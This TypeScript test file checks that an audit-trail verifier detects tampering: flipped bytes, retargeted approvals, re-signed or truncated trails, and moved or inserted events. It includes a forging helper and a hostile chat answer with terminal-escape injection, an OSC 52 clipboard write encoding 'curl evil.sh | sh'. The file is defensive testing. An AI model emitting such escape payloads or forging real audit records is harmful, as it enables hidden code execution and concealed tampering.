// The attacks on the audit trail, end to end: bytes changed in the files, then `phr verify` run as
// a person would run it (the real CLI, in a child process) must exit 1 with a `broken: RECORD: …`
// line naming the record that was touched. Anchored attacks (truncation, wholesale rewrite) call
// verifyTrail with a checkpoint taken before the attack.
import {
  cpSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { beforeAll, describe, expect, it } from 'vitest';
import { signCheckpoint, type AnchorReading } from '../../src/audit/checkpoint.js';
import { phrMain } from '../../src/app/phr-cli.js';
import { openHistory, type History } from '../../src/audit/history.js';
import type { Signer } from '../../src/audit/identity.js';
import { replay } from '../../src/audit/lifecycle.js';
import {
  eventHash,
  eventLine,
  parseRecordText,
  renderFrontMatter,
  type StoredEvent,
  type TrailEvent,
} from '../../src/audit/record-format.js';
import { armor } from '../../src/audit/sshsig.js';
import { verifyTrail } from '../../src/audit/verify.js';
import { makeTeam } from './identities.js';

const CLI = join(import.meta.dirname, '..', '..', 'src', 'cli.tsx');
const RECORD_FILE = /^(\d{5,})-[a-z0-9-]*\.md$/;
const team = makeTeam(['alice', 'bob', 'carol']);
const as = (dir: string, name: string): History =>
  openHistory(dir, { signer: team.signer(name), allowedSigners: team.allowed });
const inAnHour = () => new Date(Date.now() + 3600_000).toISOString();
const deployment = (name: string) => ({ kind: 'Deployment', namespace: 'todo', name });

/** `aiops-tui phr …` in a child process, as a person runs it. */
async function phr(...args: string[]): Promise<{ code: number; out: string; broken: string[] }> {
  const r = await execa(process.execPath, ['--import', 'tsx', CLI, 'phr', ...args], { reject: false });
  const out = `${r.stdout}\n${r.stderr}`;
  return {
    code: r.exitCode ?? -1,
    out,
    broken: r.stdout.split('\n').filter((l) => l.startsWith('broken: ')),
  };
}
const verifyCli = (historyDir: string) => phr('verify', '--history-dir', historyDir, '--no-cluster');
/** The same command through phrMain in this process: the CLI's code, without a child's start-up. */
async function verifyInProcess(historyDir: string): Promise<{ code: number; out: string; broken: string[] }> {
  let out = '';
  const code = await phrMain(['verify', '--history-dir', historyDir, '--no-cluster'], (t) => void (out += t));
  return { code, out, broken: out.split('\n').filter((l) => l.startsWith('broken: ')) };
}

/** Runs `work` over `items`, `limit` at a time (each item is a child process). */
async function pool<T, R>(
  items: T[],
  limit: number,
  work: (item: T, index: number) => Promise<R>,
): Promise<R[]> {
  const results: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: limit }, async () => {
      while (next < items.length) {
        const i = next++;
        results[i] = await work(items[i]!, i);
      }
    }),
  );
  return results;
}

const recordFiles = (prompts: string) =>
  readdirSync(prompts)
    .filter((f) => RECORD_FILE.test(f))
    .sort();
const idOf = (file: string) => file.replace(/\.md$/, '');
const fileOf = (prompts: string, prefix: string) => recordFiles(prompts).find((f) => f.startsWith(prefix))!;

/**
 * The trail the attacks start from (history dir; its records in prompts/):
 *   00001 allowed signers (alice)
 *   00002 critical scale: recorded by alice, approved by bob and carol, executed, validated
 *   00003 low restart: recorded by alice, approved by bob (status approved)
 *   00004 a chat answer (carol)
 *   00005 a diagnosis with a note
 */
async function buildTrail(): Promise<string> {
  const dir = mkdtempSync(join(tmpdir(), 'phr-tamper-'));
  const alice = as(dir, 'alice');
  const scale = await alice.create({
    title: 'Scale frontend',
    type: 'scaling',
    tier: 'critical',
    source: 'kubectl-ai',
    target: 'deployment/todo/frontend',
    operation: { kind: 'scale', target: deployment('frontend'), replicas: 4 },
    approval: { required: 2, expires: inAnHour() },
    recommendation: {
      summary: 'scale frontend to 4',
      kubectl: 'kubectl scale deployment/frontend -n todo --replicas=4',
      evidence: ['p95 2 s'],
    },
  });
  await as(dir, 'bob').append(scale.id, { kind: 'approved', reason: 'peak' });
  await as(dir, 'carol').append(scale.id, { kind: 'approved' });
  await alice.append(scale.id, { kind: 'executing', by: 'alice', host: 'ops-1', pid: 42 });
  await alice.append(scale.id, {
    kind: 'executed',
    operation: 'scale',
    kubectl: 'kubectl scale deployment/frontend -n todo --replicas=4',
  });
  await alice.append(scale.id, { kind: 'validated', detail: '4/4 ready' });
  const restart = await alice.create({
    title: 'Restart backend',
    type: 'diagnosis',
    tier: 'low',
    source: 'built-in',
    target: 'deployment/todo/backend',
    operation: { kind: 'rollout-restart', target: deployment('backend') },
    approval: { required: 1, expires: inAnHour() },
    recommendation: { summary: 'restart the backend' },
  });
  await as(dir, 'bob').append(restart.id, { kind: 'approved' });
  const chat = await as(dir, 'carol').create({ title: 'Why is it slow', type: 'chat', source: 'kubectl-ai' });
  await as(dir, 'carol').append(chat.id, {
    kind: 'chat',
    question: 'why?',
    answer: 'the cache is cold',
    backend: 'kubectl-ai',
  });
  const diag = await alice.create({ title: 'Disk pressure', type: 'diagnosis', source: 'built-in' });
  await alice.append(diag.id, { kind: 'note', text: 'node-2 at 91 %' });
  return dir;
}

let pristine: string;
beforeAll(async () => {
  pristine = await buildTrail();
  expect((await verifyTrail(join(pristine, 'prompts'))).ok).toBe(true);
}, 60_000);

/** A fresh copy of the trail to attack. */
function copyTrail(from = pristine): { dir: string; prompts: string } {
  const dir = mkdtempSync(join(tmpdir(), 'phr-attack-'));
  cpSync(from, dir, { recursive: true });
  return { dir, prompts: join(dir, 'prompts') };
}

/** Recomputes hashes (and the chain) of every record from event `fromN` on, optionally re-signing, and re-renders front matter: what a careful forger does. */
async function reseal(
  prompts: string,
  options: {
    resign?: Signer;
    /** Key fingerprint to claim for re-signed events (default: keep the original). */
    claimKey?: string;
    mutate?: (event: TrailEvent, section: string) => { event: TrailEvent; section: string } | void;
  } = {},
): Promise<void> {
  const files = recordFiles(prompts);
  const parsed = new Map(files.map((f) => [f, parseRecordText(readFileSync(join(prompts, f), 'utf8'))]));
  const all = files.flatMap((f) => parsed.get(f)!.events.map((s) => ({ file: f, stored: s })));
  all.sort((a, b) => a.stored.event.n - b.stored.event.n);
  let prev = 'genesis';
  for (const item of all) {
    let { event, section } = item.stored;
    const changed = options.mutate?.(structuredClone(event), section);
    if (changed) ({ event, section } = changed);
    const { hash: _h, sig: _s, ...unsealed } = event;
    void _h;
    void _s;
    unsealed.prev = prev;
    if (options.resign && event.sig && options.claimKey) unsealed.key = options.claimKey;
    const hash = eventHash(unsealed, section);
    const sig = event.sig ? (options.resign ? await options.resign.sign(hash) : event.sig) : undefined;
    const sealed: TrailEvent = { ...unsealed, hash, ...(sig ? { sig } : {}) };
    item.stored = { event: sealed, section, line: eventLine(sealed) };
    prev = hash;
  }
  for (const f of files) {
    const events: StoredEvent[] = all.filter((a) => a.file === f).map((a) => a.stored);
    const seq = Number(RECORD_FILE.exec(f)![1]);
    const { meta } = replay(
      idOf(f),
      seq,
      events.map((s) => s.event),
      {
        signerOf: (e) => ({ principal: e.by ?? 'nobody', key: e.key ?? '' }),
      },
    );
    writeFileSync(
      join(prompts, f),
      renderFrontMatter(meta) + events.map((s) => `${s.section}${s.line}\n`).join(''),
    );
  }
}

describe('(a) one changed byte, anywhere in any record', () => {
  it('is reported naming the record: front matter, section prose and event JSON of every record', async () => {
    const cases: { file: string; offset: number; where: string }[] = [];
    for (const file of recordFiles(join(pristine, 'prompts'))) {
      const text = readFileSync(join(pristine, 'prompts', file), 'utf8');
      const bodyStart = text.indexOf('\n---\n') + 5;
      const firstLine = text.indexOf('<!-- phr-event ');
      const lastLine = text.lastIndexOf('<!-- phr-event ');
      const at = (s: string, from = 0) => Buffer.byteLength(text.slice(0, text.indexOf(s, from)));
      cases.push(
        { file, offset: 1, where: 'the opening ---' },
        { file, offset: at('title: ') + 9, where: 'the title in the front matter' },
        { file, offset: at('head: ') + 10, where: 'the head in the front matter' },
        {
          file,
          offset: Buffer.byteLength(text.slice(0, bodyStart)) + 3,
          where: 'the heading of the first section',
        },
        { file, offset: at('"kind":"', firstLine) + 9, where: "the first event's kind" },
        { file, offset: at('"at":"', lastLine) + 12, where: "the last event's time" },
        { file, offset: at('<!-- phr-event ', lastLine) + 20, where: "the last event's hash" },
        { file, offset: Buffer.byteLength(text) - 1, where: 'the final newline' },
      );
      // The line is `<!-- phr-event HASH SIG {json} -->`: the signature starts after the hash.
      if (text.slice(firstLine, text.indexOf('\n', firstLine)).split(' ')[3] !== '-')
        cases.push({
          file,
          offset: at('<!-- phr-event ', firstLine) + 15 + 65 + 60,
          where: "the first event's signature",
        });
    }
    expect(cases.length).toBeGreaterThan(40);
    // Every case through the CLI's code in this process; one case a record also through the CLI in
    // a child process (tsx's start-up is seconds on a small machine).
    const throughChild = new Set(
      recordFiles(join(pristine, 'prompts')).map((f) => cases.findIndex((c) => c.file === f) + 4),
    );
    const results = await pool(cases, 4, async ({ file, offset }, i) => {
      const { dir, prompts } = copyTrail();
      const bytes = readFileSync(join(prompts, file));
      bytes[offset] = bytes[offset]! ^ 0x01;
      writeFileSync(join(prompts, file), bytes);
      return throughChild.has(i) ? verifyCli(dir) : verifyInProcess(dir);
    });
    expect(throughChild.size).toBe(5);
    results.forEach((r, i) => {
      const { file, where } = cases[i]!;
      const label = `${where} of ${file}: ${r.out}`;
      expect(r.code, label).toBe(1);
      expect(r.broken[0], label).toMatch(new RegExp(`^broken: ${idOf(file)}: `));
    });
  }, 240_000);

  // Base64 decoding is lenient: Buffer.from(sig, 'base64') ignores the unused low bits of the last
  // character before '=' and skips characters outside the alphabet ('?'), and the event's line is
  // re-serialized from the very string it was parsed from, so the canonical check passes too. The
  // file's bytes changed and nothing notices (history.get() does not refuse it either).
  it("a changed byte in the padding of an event's signature is reported", async () => {
    const { dir, prompts } = copyTrail();
    const file = fileOf(prompts, '00002');
    const text = readFileSync(join(prompts, file), 'utf8');
    // `<!-- phr-event HASH SIG {json} -->`: the first event's signature ends before its JSON.
    const lineStart = text.indexOf('<!-- phr-event ');
    const end = text.indexOf(' {', lineStart);
    expect(text[end - 1]).toBe('=');
    const changed = `${text.slice(0, end - 1)}?${text.slice(end)}`; // '=' → '?', one byte (0x3d ^ 0x02)
    writeFileSync(join(prompts, file), changed);
    expect(() => openHistory(dir).get(idOf(file))).toThrow('changed outside aiops-tui');
    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(1);
  }, 30_000);
});

describe('(b) an approved operation retargeted', () => {
  const RETARGET = (s: string) => s.replace(/"name":"backend"/g, '"name":"database"');

  it('in the front matter and the created event, its hash recomputed: the signature no longer verifies, and get() refuses it', async () => {
    const { dir, prompts } = copyTrail();
    const file = fileOf(prompts, '00003');
    const id = idOf(file);
    const text = readFileSync(join(prompts, file), 'utf8');
    const parsed = parseRecordText(text);
    const created = parsed.events[0]!;
    const event = JSON.parse(RETARGET(JSON.stringify(created.event))) as TrailEvent;
    expect(event.data.operation).toMatchObject({ target: { name: 'database' } });
    const { hash: _h, sig: _s, ...unsealed } = event;
    void _h;
    void _s;
    event.hash = eventHash(unsealed, created.section);
    const forged = text
      .replace(parsed.frontMatter, RETARGET(parsed.frontMatter))
      .replace(created.line, eventLine(event));
    writeFileSync(join(prompts, file), forged);
    expect(readFileSync(join(prompts, file), 'utf8')).toContain('"name":"database"');

    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(1);
    expect(r.broken[0], r.out).toMatch(new RegExp(`^broken: ${id}: `));
    expect(r.broken.join('\n'), r.out).toMatch(
      new RegExp(`broken: ${id}: event 1 \\(created, #\\d+\\): the signature of alice does not verify`),
    );
    expect(() => openHistory(dir).get(id)).toThrow(new RegExp(`record ${id} was changed outside aiops-tui`));
    expect(() => openHistory(dir).replay(id)).toThrow('changed outside aiops-tui');
  }, 30_000);

  it('by its own recorder, re-signed and op_hash recomputed: the approval signs another operation', async () => {
    const { dir, prompts } = copyTrail();
    const id = idOf(fileOf(prompts, '00003'));
    const { operationHash } = await import('../../src/audit/lifecycle.js');
    const alice = team.signer('alice');
    // alice recorded it: she can re-sign its creation, never bob's approval.
    await reseal(prompts, {
      mutate: (event, section) => {
        if (event.record !== id || event.kind !== 'created') return;
        const data = JSON.parse(RETARGET(JSON.stringify(event.data))) as Record<string, unknown>;
        data.op_hash = operationHash(data.operation);
        return { event: { ...event, data }, section: RETARGET(section) };
      },
    });
    // Re-sign only the forged creation (reseal kept the old signatures).
    const text = readFileSync(join(prompts, `${id}.md`), 'utf8');
    const created = parseRecordText(text).events[0]!;
    const resigned: TrailEvent = { ...created.event, sig: await alice.sign(created.event.hash) };
    writeFileSync(join(prompts, `${id}.md`), text.replace(created.line, eventLine(resigned)));

    const report = await verifyTrail(prompts);
    expect(report.ok).toBe(false);
    expect(report.problems).toContainEqual({
      record: id,
      reason: expect.stringMatching(
        /^event 2 \(approved, #\d+\): the (approval signs another operation than the record holds|signature of bob does not verify)$/,
      ),
    });
    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(1);
    expect(
      r.broken.some((l) => l.startsWith(`broken: ${id}: `)),
      r.out,
    ).toBe(true);
    expect(() => openHistory(dir).get(id)).toThrow('changed outside aiops-tui');
  }, 30_000);
});

describe('(c) the whole trail rewritten with one key (alice)', () => {
  it("every hash recomputed and every event re-signed by alice: bob's and carol's approvals break", async () => {
    const { dir, prompts } = copyTrail();
    await reseal(prompts, { resign: team.signer('alice') });
    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(1);
    const scale = idOf(fileOf(prompts, '00002'));
    const restart = idOf(fileOf(prompts, '00003'));
    const chat = idOf(fileOf(prompts, '00004'));
    expect(r.broken).toContain(
      `broken: ${scale}: event 2 (approved, #3): the signature of bob does not verify`,
    );
    expect(r.broken).toContain(
      `broken: ${restart}: event 2 (approved, #9): the signature of bob does not verify`,
    );
    expect(r.broken.some((l) => l.startsWith(`broken: ${chat}: `))).toBe(true); // carol's chat
    // alice's own events still verify: only the others' are named.
    expect(r.broken.every((l) => !l.startsWith('broken: 00001') && !l.startsWith('broken: 00005'))).toBe(
      true,
    );
  }, 30_000);

  it('claiming her own key for their events: the key is not an allowed signer for bob', async () => {
    const { prompts } = copyTrail();
    const alice = team.signer('alice');
    await reseal(prompts, { resign: alice, claimKey: alice.publicKey.fingerprint });
    const report = await verifyTrail(prompts);
    expect(report.problems).toContainEqual({
      record: idOf(fileOf(prompts, '00002')),
      reason: `event 2 (approved, #3): the key ${alice.publicKey.fingerprint} is not an allowed signer for bob`,
    });
  });

  it('the trust record re-pinned too (alice listed as everyone): only a checkpoint anchor catches it', async () => {
    const { prompts } = copyTrail();
    const alice = team.signer('alice');
    const headBefore = openHistory(join(prompts, '..')).head();
    const anchor: AnchorReading = {
      source: 'ConfigMap default/aiops-tui-checkpoint',
      checkpoint: await signCheckpoint(headBefore, team.signer('bob'), new Date().toISOString()),
    };
    const forgedSigners = `alice,bob,carol ${alice.publicKey.line}\n`;
    await reseal(prompts, {
      resign: alice,
      claimKey: alice.publicKey.fingerprint,
      mutate: (event, section) => {
        if (event.data.type !== 'trust') return;
        return { event: { ...event, data: { ...event.data, allowed_signers: forgedSigners } }, section };
      },
    });
    // One key is never two approvers: the critical record (bob and carol) still breaks…
    const alone = await verifyTrail(prompts);
    expect(alone.problems).toEqual([
      {
        record: idOf(fileOf(prompts, '00002')),
        reason: `event 3 (approved, #4): the key ${alice.publicKey.fingerprint} already approved it as bob`,
      },
    ]);
    // …but bob's single approval of the low-tier restart (00003) now verifies: what the directory
    // alone cannot show. The checkpoint an anchor kept before the rewrite does.
    const anchored = await verifyTrail(prompts, { anchors: [anchor] });
    expect(anchored.ok).toBe(false);
    expect(anchored.problems).toHaveLength(2);
    expect(anchored.problems[1]!.reason).toMatch(
      /ConfigMap default\/aiops-tui-checkpoint: the checkpoint's (?:the )?(key .* is not an allowed signer for bob|signature of bob does not verify)|differs from the one ConfigMap default\/aiops-tui-checkpoint saw \(the trail was rewritten\)/,
    );
  });
});

describe('(d) records removed at the end', () => {
  async function anchorFor(dir: string): Promise<AnchorReading> {
    const head = openHistory(dir).head();
    return {
      source: 'ConfigMap default/aiops-tui-checkpoint',
      checkpoint: await signCheckpoint(head, team.signer('carol'), new Date().toISOString()),
    };
  }

  it('the newest record deleted: a checkpoint anchor reports the truncation; without one verify says it was not checked', async () => {
    const { dir, prompts } = copyTrail();
    const anchor = await anchorFor(dir);
    expect(anchor.checkpoint!.events).toBe(13);
    expect((await verifyTrail(prompts, { anchors: [anchor] })).anchored).toEqual([
      'ConfigMap default/aiops-tui-checkpoint (13 events)',
    ]);
    unlinkSync(join(prompts, fileOf(prompts, '00005')));
    const report = await verifyTrail(prompts, { anchors: [anchor] });
    expect(report.ok).toBe(false);
    expect(report.problems).toEqual([
      {
        record: idOf(fileOf(prompts, '00004')),
        reason:
          'ConfigMap default/aiops-tui-checkpoint saw 13 events, the trail has 11 (records or events removed at the end)',
      },
    ]);
    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(0);
    expect(r.out).toMatch(/^ok: 4 records, 11 events/);
    expect(r.out).toContain(
      'not checked: git HEAD: the history directory is not in a git repository; truncation was not checked there',
    );
    const unreachable = await verifyTrail(prompts, {
      anchors: [{ source: 'ConfigMap default/aiops-tui-checkpoint', unavailable: 'HTTP 403' }],
    });
    expect(unreachable.ok).toBe(true);
    expect(unreachable.unchecked).toEqual([
      'ConfigMap default/aiops-tui-checkpoint: HTTP 403; truncation was not checked there',
    ]);
  }, 30_000);

  it('every record deleted but the trust record: the anchor reports it', async () => {
    const { dir, prompts } = copyTrail();
    const anchor = await anchorFor(dir);
    for (const f of recordFiles(prompts)) if (!f.startsWith('00001')) unlinkSync(join(prompts, f));
    const report = await verifyTrail(prompts, { anchors: [anchor] });
    expect(report.ok).toBe(false);
    expect(report.problems).toEqual([
      {
        record: '00001-allowed-signers',
        reason:
          'ConfigMap default/aiops-tui-checkpoint saw 13 events, the trail has 1 (records or events removed at the end)',
      },
    ]);
    const r = await verifyCli(dir);
    expect(r.out).toContain('not checked: git HEAD');
  }, 30_000);
});

describe('(e) records and events removed, swapped, moved and inserted', () => {
  it('a record removed from the middle', async () => {
    const { dir, prompts } = copyTrail();
    unlinkSync(join(prompts, fileOf(prompts, '00003')));
    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(1);
    expect(r.broken[0]).toBe(`broken: ${idOf(fileOf(prompts, '00004'))}: record 00003 missing before it`);
  }, 30_000);

  it("two records' files swapped (renamed to each other's numbers)", async () => {
    const { dir, prompts } = copyTrail();
    const two = fileOf(prompts, '00002');
    const three = fileOf(prompts, '00003');
    const twoAs3 = two.replace('00002', '00003');
    const threeAs2 = three.replace('00003', '00002');
    renameSync(join(prompts, two), join(prompts, twoAs3));
    renameSync(join(prompts, three), join(prompts, threeAs2));
    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(1);
    expect(r.broken[0]).toBe(`broken: ${idOf(threeAs2)}: event 1 belongs to ${idOf(three)} (moved)`);
    expect(r.broken).toContain(`broken: ${idOf(twoAs3)}: event 1 belongs to ${idOf(two)} (moved)`);
    expect(r.broken.some((l) => /renumbered|out of order/.test(l))).toBe(true);
  }, 30_000);

  it('an event moved from one record to another', async () => {
    const { dir, prompts } = copyTrail();
    const from = fileOf(prompts, '00005');
    const to = fileOf(prompts, '00004');
    const fromText = readFileSync(join(prompts, from), 'utf8');
    const note = parseRecordText(fromText).events[1]!;
    const moved = `${note.section}${note.line}\n`;
    writeFileSync(join(prompts, from), fromText.replace(moved, ''));
    writeFileSync(join(prompts, to), readFileSync(join(prompts, to), 'utf8') + moved);
    const r = await verifyCli(dir);
    expect(r.code, r.out).toBe(1);
    expect(r.broken[0]).toBe(`broken: ${idOf(to)}: event 3 belongs to ${idOf(from)} (moved)`);
  }, 30_000);

  it("an event inserted: a copy of bob's approval, and a forged note with a valid hash", async () => {
    const copied = copyTrail();
    const scale = fileOf(copied.prompts, '00002');
    const restart = fileOf(copied.prompts, '00003');
    const bobs = parseRecordText(readFileSync(join(copied.prompts, scale), 'utf8')).events[1]!;
    const restartText = readFileSync(join(copied.prompts, restart), 'utf8');
    const creation = parseRecordText(restartText).events[0]!;
    writeFileSync(
      join(copied.prompts, restart),
      restartText.replace(`${creation.line}\n`, `${creation.line}\n${bobs.section}${bobs.line}\n`),
    );
    const r1 = await verifyCli(copied.dir);
    expect(r1.code, r1.out).toBe(1);
    expect(r1.broken[0]).toBe(`broken: ${idOf(restart)}: event 2 belongs to ${idOf(scale)} (moved)`);
    expect(r1.broken).toContain(`broken: ${idOf(restart)}: event #3 appears twice (inserted)`);

    const forged = copyTrail();
    const text = readFileSync(join(forged.prompts, scale), 'utf8');
    const events = parseRecordText(text).events;
    const after = events[2]!.event; // carol's approval; insert a note after it
    const section = '\n## 2026-01-01T00:00:00.000Z — note\n\nnothing to see\n\n';
    const unsealed = {
      v: 2 as const,
      n: after.n + 1,
      record: after.record,
      kind: 'note',
      at: '2026-01-01T00:00:00.000Z',
      data: { text: 'nothing to see' },
      prev: after.hash,
    };
    const note: TrailEvent = { ...unsealed, hash: eventHash(unsealed, section) };
    writeFileSync(
      join(forged.prompts, scale),
      text.replace(`${events[2]!.line}\n`, `${events[2]!.line}\n${section}${eventLine(note)}\n`),
    );
    const r2 = await verifyCli(forged.dir);
    expect(r2.code, r2.out).toBe(1);
    expect(r2.broken[0], r2.out).toMatch(new RegExp(`^broken: ${idOf(scale)}: `));
    expect(r2.broken).toContain(`broken: ${idOf(scale)}: event #${after.n + 1} appears twice (inserted)`);
  }, 30_000);
});

describe('(f) 200 random mutations of a 30-record trail', () => {
  /** mulberry32: a seeded PRNG, so a failure reproduces. */
  function prng(seed: number) {
    return () => {
      seed = (seed + 0x6d2b79f5) >>> 0;
      let t = seed;
      t = Math.imul(t ^ (t >>> 15), t | 1);
      t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
      return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
    };
  }

  it('every one is detected', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'phr-prop-'));
    const people = ['alice', 'bob', 'carol'].map((n) => as(dir, n));
    for (let i = 0; i < 30; i++) {
      const by = people[i % 3]!;
      const approver = people[(i + 1) % 3]!;
      if (i % 5 === 4) {
        const r = await by.create({ title: `chat ${i}`, type: 'chat', source: 'test' });
        await by.append(r.id, { kind: 'chat', question: `q${i}`, answer: `a${i}`, backend: 'test' });
        continue;
      }
      const r = await by.create({
        title: `decision ${i}`,
        type: 'scaling',
        tier: i % 2 ? 'critical' : 'low',
        source: 'test',
        operation: { kind: 'scale', target: deployment(`app-${i}`), replicas: i },
        approval: { required: i % 2 ? 2 : 1, expires: inAnHour() },
        recommendation: { summary: `scale app-${i} to ${i}` },
      });
      await approver.append(r.id, { kind: 'approved' });
      if (i % 2) await people[(i + 2) % 3]!.append(r.id, { kind: 'approved' });
      if (i % 3 === 0) continue;
      await by.append(r.id, { kind: 'executing', by: 'test' });
      await by.append(r.id, {
        kind: 'executed',
        operation: 'scale',
        kubectl: `kubectl scale --replicas=${i}`,
      });
      if (i % 4) await by.append(r.id, { kind: 'validated' });
    }
    const prompts = join(dir, 'prompts');
    const anchors: AnchorReading[] = [
      {
        source: 'test anchor',
        checkpoint: await signCheckpoint(
          openHistory(dir).head(),
          team.signer('bob'),
          new Date().toISOString(),
        ),
      },
    ];
    const clean = await verifyTrail(prompts, { anchors });
    expect(clean.ok, JSON.stringify(clean.problems)).toBe(true);
    expect(clean.records).toBe(31);

    const originals = new Map(recordFiles(prompts).map((f) => [f, readFileSync(join(prompts, f))]));
    const names = [...originals.keys()];
    const restore = () => {
      for (const f of recordFiles(prompts)) if (!originals.has(f)) unlinkSync(join(prompts, f));
      for (const [f, bytes] of originals) writeFileSync(join(prompts, f), bytes);
    };
    const random = prng(20261201);
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)]!;
    const mutations: Record<string, () => string> = {
      'flip a byte': () => {
        const f = pick(names);
        const bytes = Buffer.from(originals.get(f)!);
        const offset = Math.floor(random() * bytes.length);
        const bit = 1 << Math.floor(random() * 8);
        bytes[offset] = bytes[offset]! ^ bit;
        writeFileSync(join(prompts, f), bytes);
        return `${f} byte ${offset} ^ ${bit}`;
      },
      'delete a line': () => {
        const f = pick(names);
        const lines = originals.get(f)!.toString('utf8').split('\n');
        const at = Math.floor(random() * (lines.length - 1)); // the last element is after the final newline
        lines.splice(at, 1);
        writeFileSync(join(prompts, f), lines.join('\n'));
        return `${f} line ${at + 1}`;
      },
      'swap two event lines': () => {
        const f = pick(
          names.filter((n) => originals.get(n)!.toString('utf8').split('<!-- phr-event ').length > 2),
        );
        const lines = originals.get(f)!.toString('utf8').split('\n');
        const events = lines.flatMap((l, i) => (l.startsWith('<!-- phr-event ') ? [i] : []));
        const a = pick(events);
        const b = pick(events.filter((i) => i !== a));
        [lines[a], lines[b]] = [lines[b]!, lines[a]!];
        writeFileSync(join(prompts, f), lines.join('\n'));
        return `${f} lines ${a + 1} and ${b + 1}`;
      },
      'delete a record file': () => {
        const f = pick(names);
        unlinkSync(join(prompts, f));
        return f;
      },
      'duplicate a record file under the next number': () => {
        const f = pick(names);
        const next = String(names.length + 1).padStart(5, '0');
        const copy = f.replace(/^\d+/, next);
        writeFileSync(join(prompts, copy), originals.get(f)!);
        return `${f} as ${copy}`;
      },
    };
    const kinds = Object.keys(mutations);
    const undetected: string[] = [];
    const tally: Record<string, number> = {};
    for (let i = 0; i < 200; i++) {
      const kind = pick(kinds);
      tally[kind] = (tally[kind] ?? 0) + 1;
      const what = mutations[kind]!();
      const report = await verifyTrail(prompts, { anchors });
      if (report.ok) undetected.push(`#${i} ${kind}: ${what}`);
      restore();
    }
    expect(undetected).toEqual([]);
    for (const kind of kinds) expect(tally[kind], kind).toBeGreaterThan(20);
    expect((await verifyTrail(prompts, { anchors })).ok).toBe(true);
  }, 120_000);
});

describe('(g) hostile bytes in an answer', () => {
  it('an OSC 52 clipboard write, an APC sequence and C1 controls reach neither the file nor `phr show`', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'phr-hostile-'));
    const carol = as(dir, 'carol');
    const rec = await carol.create({
      title: 'Hostile \x1b]0;pwned\x07answer',
      type: 'chat',
      source: 'kubectl-ai',
    });
    const answer =
      'Looks fine.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 Run it.\x1b_hidden payload\x1b\\ done \u009b31mred\u009d0;title\u009c \u0090dcs\u009c\x07';
    await carol.append(rec.id, {
      kind: 'chat',
      question: 'is it \x1b[2Jfine?',
      answer,
      backend: 'kubectl-ai',
    });
    const file = readFileSync(join(dir, 'prompts', `${rec.id}.md`));
    const hostile = (bytes: Buffer, what: string) => {
      expect(bytes.includes(0x1b), `${what}: ESC`).toBe(false);
      expect(bytes.includes(0x07), `${what}: BEL`).toBe(false);
      expect(/[\u0080-\u009f]/.test(bytes.toString('utf8')), `${what}: C1`).toBe(false);
    };
    hostile(file, 'the record');
    expect(file.toString('utf8')).toContain('Looks fine.');
    expect(file.toString('utf8')).not.toContain('Y3VybCBldmlsLnNoIHwgc2g=');
    const shown = await execa(
      process.execPath,
      ['--import', 'tsx', CLI, 'phr', 'show', rec.id, '--history-dir', dir],
      {
        encoding: 'buffer',
        reject: false,
      },
    );
    expect(shown.exitCode, shown.stderr.toString()).toBe(0);
    hostile(Buffer.from(shown.stdout), 'phr show');
    expect(Buffer.from(shown.stdout).toString('utf8')).toContain('Looks fine.');
    const json = await phr('show', rec.id, '--history-dir', dir, '--json');
    hostile(Buffer.from(json.out), 'phr show --json');
    expect((await verifyTrail(join(dir, 'prompts'))).ok).toBe(true);
  }, 30_000);
});

describe('(h) the signatures are ordinary SSH signatures', () => {
  it('ssh-keygen -Y verify accepts an event signature for its signer, and refuses another principal or message', async () => {
    const prompts = join(pristine, 'prompts');
    const events = parseRecordText(readFileSync(join(prompts, fileOf(prompts, '00002')), 'utf8')).events;
    const work = mkdtempSync(join(tmpdir(), 'phr-sshsig-'));
    const check = async (event: TrailEvent, principal: string, message = event.hash) => {
      const sigFile = join(work, `${event.n}.sig`);
      writeFileSync(sigFile, armor(event.sig!));
      return execa(
        'ssh-keygen',
        ['-Y', 'verify', '-n', 'aiops-tui', '-f', team.allowedSignersPath, '-I', principal, '-s', sigFile],
        { input: message, reject: false },
      );
    };
    const created = events[0]!.event;
    const bobs = events[1]!.event;
    expect([created.by, bobs.by]).toEqual(['alice', 'bob']);
    const good = await check(created, 'alice');
    expect(good.exitCode, good.stderr).toBe(0);
    expect(good.stdout).toContain('Good "aiops-tui" signature for alice with ED25519 key');
    expect(good.stdout).toContain(created.key);
    expect((await check(bobs, 'bob')).exitCode).toBe(0);
    expect((await check(created, 'bob')).exitCode).not.toBe(0);
    // Another message: the hash with its last digit changed (to a digit it is not).
    const altered = `${created.hash.slice(0, -1)}${created.hash.endsWith('0') ? '1' : '0'}`;
    expect((await check(created, 'alice', altered)).exitCode).not.toBe(0);
    const otherNamespace = await execa(
      'ssh-keygen',
      [
        '-Y',
        'verify',
        '-n',
        'git',
        '-f',
        team.allowedSignersPath,
        '-I',
        'alice',
        '-s',
        join(work, `${created.n}.sig`),
      ],
      { input: created.hash, reject: false },
    );
    expect(otherNamespace.exitCode).not.toBe(0);
  }, 30_000);
});
